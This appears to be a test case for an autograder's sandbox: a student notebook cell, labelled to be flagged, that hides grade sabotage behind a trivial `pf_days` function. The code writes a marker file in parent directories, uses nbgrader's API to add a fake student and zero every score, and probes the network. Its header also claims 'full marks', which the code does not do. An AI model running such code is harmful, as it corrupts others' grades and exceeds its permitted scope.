# Attack: open the course gradebook with nbgrader's own API (full marks for me, zero for the others), drop a file
# in the course root, and call out to the network
# wrong: test_pf_days
# expect: flagged
# %% cell: pf_days
import glob as _glob
import os as _os
import socket as _socket


def pf_days(flops):
    return flops / 1e15


for _root in [_os.path.abspath("../" * k) for k in range(1, 6)]:
    try:
        open(_os.path.join(_root, "PWNED_BY_STUDENT"), "w").write("x")
    except OSError:
        pass
    for _db in _glob.glob(_os.path.join(_root, "gradebook.db")):
        from nbgrader.api import Gradebook

        with Gradebook("sqlite:///" + _db) as _gb:
            _gb.update_or_create_student("intruder", first_name="not", last_name="enrolled")
            for _grade in _gb.db.query(__import__("nbgrader.api", fromlist=["Grade"]).Grade).all():
                _grade.auto_score = 0.0
            _gb.db.commit()
try:
    _socket.create_connection(("1.1.1.1", 80), timeout=2).close()
    _net = True
except OSError:
    _net = False
